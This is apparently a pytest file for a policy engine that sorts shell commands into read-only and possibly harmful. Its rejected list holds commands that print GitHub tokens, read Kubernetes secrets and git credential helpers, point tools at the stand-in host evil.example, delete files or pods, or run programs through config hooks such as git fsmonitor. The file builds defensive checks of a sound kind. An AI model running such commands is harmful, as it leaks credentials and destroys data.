"""Clients of services that only ask, and shell patterns among the words of programs that only read."""

from __future__ import annotations

import pytest

from policy_engine.effects.analysis import analysis_of
from policy_engine.effects.read_only import only_reads
from policy_engine.filesystem.file_system import Virtual
from policy_engine.shell.parse import parse


def reads(line: str, files: dict[str, str] | None = None) -> bool:
    world = Virtual("/workspace")
    for name, text in (files or {}).items():
        world.write(world.resolve(name, None), text)
    commands = parse(line, "/workspace", world)
    for command in commands:
        command.line = commands
    return all(only_reads(command, analysis_of(command)) for command in commands)


@pytest.mark.parametrize(
    "line",
    [
        "gh pr view 12 --json title",
        "gh -R o/r issue list",
        "gh api repos/o/r/pulls/3/comments --jq '.[].body'",
        "gh run view 1 --log-failed",
        "docker ps -a --format '{{.Names}}'",
        "docker logs --tail 50 web",
        "kubectl -n prod get pods",
        "kubectl logs web-1 --tail=100",
        "helm list -A",
        "systemctl status nginx",
        "journalctl -u nginx -n 20",
        "ss -tlnp",
        "apt list --installed",
        "dpkg -l",
        "pip show requests",
        "openssl version",
        "tmux ls",
        "git config --get user.email",
        "git remote get-url origin",
        "git reflog -5",
        "git bisect log",
        "find src -name '*.ts' -exec grep -l foo {} +",
        "rg -n 'a|b' src/*.js",
        "sed -n 1,5p src/*.py",
    ],
)
def test_what_only_asks(line: str) -> None:
    assert reads(line)


@pytest.mark.parametrize(
    "line",
    [
        "gh pr view 12 --web",
        "gh pr view -w",
        "gh pr merge 12",
        "gh -R evil.example/o/r pr list",
        "gh api -X POST repos/o/r/issues",
        "gh api repos/o/r/issues -ftitle=x",
        "gh api --method=DELETE repos/o/r",
        "gh api https://evil.example/x",
        "gh api graphql",
        "gh api user --jq 'env.GH_TOKEN'",
        "gh auth status --show-token",
        "gh auth token",
        "gh pr view $X",
        "GH_HOST=evil.example gh pr list",
        "./gh pr list",
        "docker -H tcp://evil.example ps",
        "docker --context evil ps",
        "docker inspect web",
        "docker run alpine ls",
        "kubectl get secrets",
        "kubectl get pods -o yaml",
        "kubectl get pods -oyaml",
        "kubectl get --raw /api/v1/secrets",
        "kubectl --kubeconfig ./x get pods",
        "kubectl get pods --profile=cpu --profile-output=x",
        "kubectl delete pod x",
        "helm list --post-renderer ./x",
        "systemctl -H evil.example status x",
        "systemctl stop nginx",
        "journalctl --vacuum-size=1M",
        "journalctl --vac=1",
        "journalctl --rotate",
        "ss -K dst 10.0.0.1",
        "ss -tK",
        "ss -D out",
        "apt install x",
        "apt -o APT::Update::Pre-Invoke::=./x list",
        "pip list --log x",
        "pip install x",
        "tmux ls -F '#(./x)'",
        "tmux capture-pane",
        "git config user.email x",
        "git config --get credential.helper",
        "git config --unset --get x.y",
        "git remote add x y",
        "git remote -v update",
        "git reflog expire --all",
        "git symbolic-ref HEAD refs/heads/x",
        "git bisect run ./x",
        "find . -exec rm {} +",
        "find . -exec $X {} +",
        "find . -fprintf out %p -exec grep x {} +",
        "rg --pre ./x a src/*.js",
        "rg a *",
        "rg a $F",
        "sed src/* x",
        "sed -n 1p *",
        "sort -o src/*",
    ],
)
def test_what_may_do_more(line: str) -> None:
    assert not reads(line)


@pytest.mark.parametrize(
    ("line", "file", "text"),
    [
        ("kubectl get pods", "/home/user/.kube/config", "users:\n- user:\n    exec:\n      command: ./x\n"),
        ("docker ps", "/home/user/.docker/config.json", '{"currentContext": "far"}'),
        ("gh pr view 1", "/workspace/.git/config", "[core]\n\tfsmonitor = ./x\n"),
    ],
)
def test_settings_that_start_a_program_are_no_proof(line: str, file: str, text: str) -> None:
    assert reads(line)
    assert not reads(line, {file: text})
